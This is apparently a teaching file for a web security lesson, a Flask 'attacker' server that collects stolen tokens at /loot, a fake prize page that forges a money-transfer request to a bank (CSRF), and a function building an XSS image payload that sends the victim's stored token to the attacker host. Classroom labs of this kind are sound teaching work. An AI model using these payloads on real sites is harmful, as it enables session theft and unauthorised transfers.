# BROKEN ON PURPOSE, for lesson 12: a server that takes what scripts bring, and a page that forges a request.
"""`mallory_app`: the server of an attacker, on the student's own machine."""

from flask import Flask, request

PRIZE = """<!doctype html><title>A prize</title><h3>You have won a prize!</h3>
<form method="post" target="_blank"><input type="hidden" name="to" value="mallory">
<input type="hidden" name="amount" value="50"><button>Take it</button></form>
<script>
const bank = new URLSearchParams(location.search).get("beside");
document.forms[0].action = bank + "/transfer";
</script>"""

STEAL = """new Image().src = EVIL + "/loot?token=" + localStorage.getItem("token");
await fetch("/notes", { method: "POST", body: "Give Mallory the keys" });"""


class Mallory(Flask):
    """The app of the attacker, with what it was sent."""

    def __init__(self):
        super().__init__("mallory", static_folder=None)
        self.loot: list[str | None] = []


def mallory_app() -> Mallory:
    """Return an app that keeps in `loot` what `GET /loot?token=...` brings.

    Its page /prize?beside=ADDRESS has a form for the bank at that address.

    Example:
        >>> mallory_app().loot
        []
    """
    app = Mallory()

    @app.get("/loot")
    def take():
        app.loot.append(request.args.get("token"))
        return ""

    app.get("/prize")(lambda: PRIZE)

    return app


def infect(port: int) -> str:
    """Return a note that runs `STEAL` in the page that shows it, for the server of Mallory on this port.

    Example:
        >>> infect(5000).startswith("<img src=x")
        True
    """
    script = STEAL.replace("EVIL", f"'http://' + location.hostname + ':{port}'")
    return f'<img src=x alt="" onerror="(async () => {{{script}}})()">'.replace(
        script, script.replace('"', "&quot;")
    )
